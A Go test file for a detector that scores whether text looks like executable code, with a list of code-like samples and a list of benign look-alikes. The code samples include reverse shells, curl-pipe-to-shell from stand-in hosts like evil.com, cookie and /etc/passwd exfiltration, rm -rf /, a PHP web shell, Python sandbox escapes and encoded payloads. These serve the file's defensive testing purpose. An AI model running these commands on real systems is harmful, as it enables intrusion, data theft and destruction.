package codelike

import (
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func utf16(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		b.WriteByte(c)
		b.WriteByte(0)
	}
	return b.String()
}

var code = []string{
	"import os; os.system('echo pwned')",
	"import subprocess; subprocess.call(['curl', 'http://evil.com'])",
	"import base64; exec(base64.b64decode('cHJpbnQoImV2aWwiKQ=='))",
	"__import__('os').system('id')",
	"__import__(\"os\").popen(\"id\").read()",
	"exec('print(1)')",
	"exec(\"import os\\nos.system('ls')\")",
	"eval('1+1')",
	"eval(compile('print(1)', '', 'exec'))",
	"os.system('rm -rf /')",
	"# just a comment\nos.system('ls')",
	"\"\"\"A docstring.\"\"\"\nimport os\nos.system('ls')",
	"x = 1\ny = __import__('subprocess').check_output(['ls'])\n",
	"from os import system\nsystem('id')",
	"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242))",
	"print('evil')",
	"exec 'import os'",
	"lambda x: x + 1",
	"lambda: os.system('x')",
	"def f(x):\n    return x * 2\n",
	"class A(object):\n    def run(self):\n        import os\n        os.system('ls')\n",
	"().__class__.__bases__[0].__subclasses__()",
	"[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__['__import__']('os')",
	"getattr(__builtins__, 'ex' + 'ec')('print(1)')",
	"open('/etc/passwd').read()",
	"with open('/tmp/x', 'w') as f:\n    f.write('pwned')",
	"import os",
	"from subprocess import Popen",
	"(lambda: __import__('os').system('id'))()",
	"urllib.request.urlopen('http://x/y').read()",
	"requests.post('http://x', data=open('/etc/passwd').read())",
	"for i in range(3):\n    os.system('x')",
	"import  os , sys\nos.system(\n 'x'\n)",
	"importlib.import_module('os').system('x')",
	"rm -rf /tmp/test && wget http://bad.com/script.sh",
	"rm -rf * && wget http://malware.com/payload",
	"rm -rf /",
	"chmod 777 /tmp/malicious",
	"chmod +x ./run",
	"curl http://evil.com/x.sh | sh",
	"curl -s https://evil.com/x.sh|bash -",
	"wget -q -O- http://evil | bash",
	"bash -c 'id'",
	"bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
	"/bin/sh -c id",
	"/bin/bash -i",
	"nc -e /bin/sh 10.0.0.1 4444",
	"nc 10.0.0.1 4444",
	"cat /etc/passwd",
	"touch /tmp/pwned",
	"echo pwned > /tmp/pwned",
	"whoami; cat /etc/shadow",
	"python3 -c 'import os'",
	"powershell -enc SQBFAFgA",
	"powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://x')\"",
	"cmd.exe /c calc.exe",
	"cmd /c dir",
	"sudo rm -rf /home",
	"$(curl http://evil/x)",
	"true && curl http://evil/x -o /tmp/x",
	"#!/bin/sh\nid\n",
	"<script>document.location='http://phishing.com'</script>",
	"<script>fetch('http://evil.com', {method: 'POST', body: document.cookie})</script>",
	"require('child_process').exec('id')",
	b64("import os; os.system('id')"),
	b64("print(\"evil\")"),
	b64("curl http://evil.com/x.sh | sh"),
	strings.TrimRight(b64("__import__('os').system('id')"), "="),
	hex.EncodeToString([]byte("import os; os.system('id')")),
	b64(utf16("curl http://evil.com/x.sh | iex")),
	"eval(atob('YWxlcnQoMSk='))",
	"<?php system($_GET['c']);",
	"import os # rest",
	"import torch\nmodel = torch.load('x')\n",
	"from ...core import x\nfrom .y import *\n\ndef f(a, /, *, b=1):\n    ...\n",
	"match x:\n    case None:\n        import os\n",
}

var notCode = []string{
	"", "abc", "feature", "petal width (cm)", "sepal length (cm)", "max_iter", "n_estimators",
	`(?u)\b\w\w+\b`, `[^\W\d_]+`, `(\d+)-(\w*)`, `^(?P<year>\d{4})$`,
	"sklearn.linear_model._logistic", "sklearn.ensemble.RandomForestClassifier", "<class 'os.system'>",
	"/usr/lib/python3/dist-packages/os.py", `C:\Users\me\model.pkl`, "/bin/bash", "../data/train.csv", "~/models/x",
	"https://huggingface.co/meta-llama/Llama-2-7b", "http://example.com/a?b=c&d=e;f", "s3://bucket/key",
	"https://user:pass@example.com:8080/path#(fragment)",
	"Use eval() to switch the model to evaluation mode.", "This function calls os.system(cmd) for you.",
	"The import of os and sys is needed; see os.system(cmd).", "Evaluate with eval(expr) on the given text",
	"Executes exec(code) in a sandbox.", "import duties on steel", "import data from scratch",
	"from A import B is a statement of Python", "lambda", "lambda: 0.5", "lambda_l1", "print (optional)",
	"class weight", "class A", "def", "open", "open (yes/no)", "system", "eval", "exec", "eval_metric", "compile",
	"SELECT * FROM users WHERE id = 1; DROP TABLE x;", "SELECT count(*) FROM t WHERE a IN (1,2)", "INSERT INTO t VALUES ('a', 'b')",
	"mean(price)", "log(x)", "C(gender)", "np.log(x) + C(z)", "y ~ x1 + np.log(x2)", "col (unit) & other",
	"RandomForestClassifier(n_estimators=10, max_depth=None)", "Linear(in_features=3, out_features=4, bias=True)",
	"datetime64[ns, UTC]", "category", "float64", "{'a': 1, 'b': [1, 2]}", `{"lr": 0.1, "name": "x", "ok": true}`,
	"[lambda_l1: 0]\n[lambda_l2: 0]\n[num_leaves: 31]", "tree\nversion=v3\nnum_class=1\nobjective=regression",
	"R&B / Soul", "Tom & Jerry", "yes;no;maybe", "a|b|c", "red | green | blue", "cat", "cat and dog", "cat food", "find me a place",
	"touch screen", "echo chamber", "open source", "sh", "bash scripting", "python code", "python 3.10", "node", "curl up and read", "kill time",
	"The rm -rf command deletes files.", "You can install it with pip install torch and then curl the file.",
	"It's a dog; it's a cat & it's nice | maybe", "don't touch /tmp or rm anything",
	"Traceback (most recent call last):\n  File \"x.py\", line 1, in <module>\nNameError: name 'os' is not defined",
	"Example\n-------\n>>> import os\n>>> os.system('ls')\n0\n",
	"Compute the mean.\n\nParameters\n----------\nx : array\n\nExamples\n--------\n>>> exec('x = 1')\n",
	"Run a shell command: subprocess.call(['ls']) does it.", "a (b) c (d)", "f(x) = x^2", "P(A|B) = P(B|A) P(A) / P(B)",
	"2024-01-02T03:04:05Z", "550e8400-e29b-41d4-a716-446655440000", "d41d8cd98f00b204e9800998ecf8427e",
	"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "AAAAB3NzaC1yc2EAAAADAQABAAABAQ",
	b64("hello world, this is only some text"), b64("\x00\x01\x02\x03 binary \xff\xfe and more"), b64("a (b) [c] {d} <e> & f | g"),
	"abcdefghijklmnopqrstuvwxyzabcdef", "Antidisestablishmentarianism", "unsupported/operand/types/list",
	"You are a helpful assistant. When asked (by the user), answer.", "<|im_start|>user", "<s>[INST] <<SYS>>", "{{ messages[0]['content'] }}",
	"name='os' value=(1, 2)", "self.attention.query (768, 768)", "model.layers.0.self_attn.q_proj.weight",
	"Copyright (c) 2020; all rights reserved", "if x then y else z (maybe)", "for sale (used)", "with love (2003)", "return policy",
	"try again", "while stocks last (offer)", "not available (n/a)", "1girl, solo, (masterpiece:1.2), [bad]", "a && b", "x > 5", "price > 100 & qty < 5",
	"__main__", "__class__", "__version__", "__main__.MyClass", "__torch__.torch.nn", "__init__.py", "numpy.core.multiarray",
	"Dear all, please import the file; then open (it) and print (it).", "hello. world (foo). bar",
	"C++ & Java", "ls -la is a command", "os.path.join", "os.system", "subprocess.Popen", "sys.exit",
	"日本語のテキスト（括弧）です", "Это просто текст (скобки) и ещё", "مرحبا (بالعالم)",
	"num (int): the number\nname (str): the name", "--learning-rate 0.1 --epochs 3 --output /tmp/x",
	"accelerate launch --num_cpu_threads_per_process 8 train_network.py --network_dim 32",
	"set of functions, e.g. getattr(x, 'y')", "getattr(x, 'y')", "isinstance(x, int)", "len(x) > 3", "(1, 2, 3)", "[1, 2, 3]",
	"Markdown `rm -rf /` in backticks", "see `os.system('x')`", "## Usage\n\n```python\nimport os\nos.system('x')\n```\n",
	"fetch https only", "export = CSV", "export to CSV", "source of truth", "source /path or not", "net income /add", "reg add",
	"Replacement for __import__()", "arn:aws:lambda:us-west-2:", "one of: ipython | python; defaults to ipython", "(chmod +x) is no-op on windows",
	"Run it in a shell as follows (this is prose of some length):\n    python -m pip install\n", "case study (x)", "match point (x)",
	"ss_network_args", "2023-04-05 12:34:56", "{\"conv_dim\": \"8\", \"algo\": \"lora\"}", "sd-scripts/train_network.py", "black-forest-labs/FLUX.1-dev",
}

func TestCode(t *testing.T) {
	for _, s := range code {
		if score, why := Score([]byte(s)); score < Threshold || why == "" {
			t.Errorf("%q: score %.2f (%s), want code", s, score, why)
		}
	}
}

func TestNotCode(t *testing.T) {
	for _, s := range notCode {
		if score, why := Score([]byte(s)); score >= Threshold {
			t.Errorf("%q: score %.2f (%s), want none", s, score, why)
		}
	}
}

func TestScoreIsBounded(t *testing.T) {
	for _, s := range append(append([]string{}, code...), notCode...) {
		if score, why := Score([]byte(s)); score < 0 || score > 1 || (score == 0) != (why == "") {
			t.Errorf("%q: score %v, why %q", s, score, why)
		}
	}
}

func FuzzScore(f *testing.F) {
	for _, s := range code {
		f.Add([]byte(s))
	}
	for _, s := range notCode {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		keep := string(b)
		score, why := Score(b)
		if score < 0 || score > 1 || (score == 0) != (why == "") {
			t.Errorf("score %v, why %q", score, why)
		}
		if string(b) != keep {
			t.Error("the text was changed")
		}
	})
}

func BenchmarkScore(b *testing.B) {
	for _, c := range []struct{ name, s string }{
		{"word", "petal_width_cm"}, {"words", "petal width (cm)"}, {"path", "/usr/lib/python3/x.py"},
		{"prose", strings.Repeat("The quick brown fox (it is) jumps over the lazy dog. ", 20)},
		{"json", `{"a": {"b": [1, 2, 3], "c": "import of a thing"}}`}, {"code", code[0]},
	} {
		b.Run(c.name, func(b *testing.B) {
			s := []byte(c.s)
			b.SetBytes(int64(len(s)))
			b.ReportAllocs()
			for b.Loop() {
				Score(s)
			}
		})
	}
}
